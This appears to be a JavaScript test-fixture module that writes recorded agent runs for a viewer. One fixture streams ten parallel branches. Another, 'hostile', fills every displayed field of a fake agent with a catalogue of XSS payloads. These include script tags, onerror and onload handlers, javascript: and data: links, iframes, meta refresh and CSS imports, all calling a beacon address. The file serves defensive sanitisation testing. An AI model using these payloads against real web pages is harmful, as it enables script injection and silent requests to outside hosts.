// Recordings of agents that exist for these tests alone, with their plans (docs/wire.md).
import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'

export const BRANCHES = ['ash', 'birch', 'cedar', 'elm', 'fir', 'hazel', 'larch', 'maple', 'oak', 'pine']

/** A word of a branch; whoever reads the column knows which are missing and which came twice. */
export const wordOf = (branch, i) => `${branch}${i}`

class Recording {
  lines = []
  offset = 0
  constructor(id, agent, title) {
    this.id = id
    this.lines.push({ type: 'conversation', conversation_id: id, agent_id: agent, agent_version: 1, status: 'running', has_earlier: false, last_offset: 0, title })
    this.say(0, 'run.start', { run_id: `${id}.run1`, conversation_id: id, agent_id: agent, agent_version: 1 })
  }
  say(ms, type, more) {
    this.lines.push({ type, offset: ++this.offset, at: new Date(Date.UTC(2026, 0, 5, 9) + ms).toISOString(), ...more })
  }
  async write(folder) {
    await writeFile(join(folder, `${this.id}.ndjson`), this.lines.map((line) => JSON.stringify(line) + '\n').join(''))
  }
}

/** Ten branches that stream at once, each a word every so many milliseconds, for so many words. */
export async function streams(folder, { everyMs, words, markup = false }) {
  const recordings = join(folder, 'recordings')
  await mkdir(recordings, { recursive: true })
  const r = new Recording('grove', 'forester', 'Ten trees')
  r.say(0, 'user.message', { id: 'grove.user1', content: 'All at once, please.' })
  r.say(50, 'node.start', { node_id: 'root', activation: 'v0', kind: 'llm', message_id: 'grove.turn0' })
  r.say(100, 'message.delta', { id: 'grove.turn0', node_id: 'root', activation: 'v0', content: 'Growing.' })
  r.say(110, 'message.end', { id: 'grove.turn0', node_id: 'root', activation: 'v0' })
  r.say(120, 'node.end', { node_id: 'root', activation: 'v0', status: 'completed', usage: { prompt_tokens: 10, completion_tokens: 2, reasoning_tokens: 0 } })
  BRANCHES.forEach((b, n) => {
    r.say(130 + n, 'edge.fired', { from: 'root', from_port: 'next', to: b })
    r.say(131 + n, 'node.start', { node_id: b, activation: `v-${b}`, kind: 'llm', message_id: `grove.turn-${b}` })
  })
  for (let i = 0; i < words; i++) {
    BRANCHES.forEach((b, n) => {
      const word = markup && i % 9 === 4 ? `**${wordOf(b, i)}**` : wordOf(b, i)
      r.say(200 + i * everyMs + (n * everyMs) / 10, 'message.delta', { id: `grove.turn-${b}`, node_id: b, activation: `v-${b}`, content: (i % 40 === 39 ? '\n\n' : ' ') + word })
    })
  }
  const end = 220 + words * everyMs
  BRANCHES.forEach((b, n) => {
    r.say(end + n, 'message.end', { id: `grove.turn-${b}`, node_id: b, activation: `v-${b}` })
    r.say(end + n, 'node.end', { node_id: b, activation: `v-${b}`, status: 'completed', usage: { prompt_tokens: 10, completion_tokens: words, reasoning_tokens: 0 } })
    r.say(end + n, 'edge.fired', { from: b, from_port: 'next', to: 'crown' })
  })
  r.say(end + 20, 'node.start', { node_id: 'crown', activation: 'v-crown', kind: 'join' })
  r.say(end + 30, 'node.end', { node_id: 'crown', activation: 'v-crown', status: 'completed' })
  r.say(end + 40, 'run.pause', { status: 'paused' })
  await r.write(recordings)
  const plan = {
    agent_id: 'forester', agent_version: 1, name: 'Forester',
    nodes: ['root', ...BRANCHES, 'crown'].map((n) => ({ path: [n], kind: n === 'crown' ? 'join' : 'llm', name: n })),
    edges: BRANCHES.flatMap((b) => [
      { subgraph_path: [], from: 'root', from_port: 'next', to: b },
      { subgraph_path: [], from: b, from_port: 'next', to: 'crown' },
    ]),
    regions: [{ source: ['root'], join: ['crown'], branches: BRANCHES.map((b) => ({ entry: [b], members: [[b]] })) }],
  }
  await writeFile(join(folder, 'forester.json'), JSON.stringify(plan))
  return ['--demo-recordings', recordings, '--plan', join(folder, 'forester.json')]
}

/** What an attacker would run. */
const script = (beacon) => `fetch('${beacon}/ran');window.top.pwned=1;window.pwned=1;alert(1)`

/** A page that does all that a page can do when nobody asked it to. */
export function hostileHTML(beacon) {
  const run = script(beacon)
  return [
    `<script>${run}</script>`,
    `<img src="x" onerror="${run}">`,
    `<img src="${beacon}/image.png">`,
    `<svg onload="${run}"><script>${run}</script></svg>`,
    `<iframe src="javascript:${run}"></iframe><iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe><iframe src="${beacon}/frame"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=${beacon}/refresh">`,
    `<link rel="stylesheet" href="${beacon}/style.css"><style>@import url('${beacon}/import.css'); body { background: url('${beacon}/background.png') }</style>`,
    `<base href="${beacon}/"><a id="lure" href="javascript:${run}">click me</a><a href="${beacon}/link" target="_top">or me</a>`,
    `<form action="${beacon}/form"><input name="a" value="b"><button>send</button></form><body onload="${run}">`,
    `<object data="${beacon}/object"></object><embed src="${beacon}/embed"><video src="${beacon}/video" autoplay></video><details open ontoggle="${run}">x</details>`,
    `</iframe></textarea></style></title><script>${run}</script>`,
  ].join('\n')
}

/** An agent that tries everything it can, in every place where its words are shown. `beacon` is an address that must stay quiet. */
export async function hostile(folder, beacon) {
  const recordings = join(folder, 'recordings')
  await mkdir(recordings, { recursive: true })
  const [run, html] = [script(beacon), hostileHTML(beacon)]
  const markdown = [
    html,
    `[a](javascript:${encodeURIComponent(run)}) [b](JaVaScRiPt:alert(1)) [c]( javascript:alert(1)) [d](data:text/html,<script>alert(1)</script>) [e](vbscript:x)`,
    `![pixel](${beacon}/markdown.png) <javascript:alert(1)> [f][g]\n\n[g]: javascript:alert(1)`,
    `[ok](https://example.com/" onmouseover="alert(1)) **<b onclick="${run}">bold</b>** \`<script>${run}</script>\``,
    `| <img src=x onerror="${run}"> | b |\n| - | - |\n| <script>${run}</script> | [x](javascript:alert(1)) |`,
    '```html\n' + html + '\n```',
  ].join('\n\n')
  const nasty = `<img src=x onerror="${run}">`
  const r = new Recording('mallory', 'mallory', `${nasty}title`)
  const at = { node_id: 'evil', activation: 'v1' }
  r.say(0, 'user.message', { id: 'm.user', content: markdown })
  r.say(50, 'node.start', { ...at, kind: 'llm', message_id: 'm.turn' })
  r.say(100, 'message.delta', { id: 'm.turn', ...at, reasoning: markdown })
  r.say(110, 'message.delta', { id: 'm.turn', ...at, content: markdown })
  r.say(120, 'message.end', { id: 'm.turn', ...at })
  r.say(130, 'tool.call', { id: 'm.call', ...at, tool_call_id: 'm.call1', tool_name: nasty, input: JSON.stringify({ [nasty]: nasty }), requires_client_response: false })
  r.say(140, 'tool.result', { id: 'm.result', ...at, tool_call_id: 'm.call1', output: html })
  for (const format of ['html', 'markdown', 'code', 'text']) {
    const value = format === 'markdown' ? markdown : html
    r.say(150, 'output.set', { id: `m.${format}`, ...at, name: `as_${format}`, value, format, status: 'final', complete: true })
  }
  r.say(160, 'output.set', { id: 'm.list', ...at, name: 'as_list', value: [nasty, markdown], format: 'list', status: 'final', complete: true })
  r.say(165, 'table.row', { ...at, table: 'loot', row_id: 'one', key: nasty, value: { [nasty]: html }, status: 'final' })
  r.say(170, 'node.end', { ...at, status: 'failed', error: { kind: 'internal', message: nasty } })
  r.say(180, 'run.pause', { status: 'paused' })
  await r.write(recordings)
  const plan = { agent_id: 'mallory', agent_version: 1, name: nasty, nodes: [{ path: ['evil'], kind: 'llm', name: nasty }], edges: [] }
  await writeFile(join(folder, 'mallory.json'), JSON.stringify(plan))
  return ['--demo-recordings', recordings, '--plan', join(folder, 'mallory.json')]
}
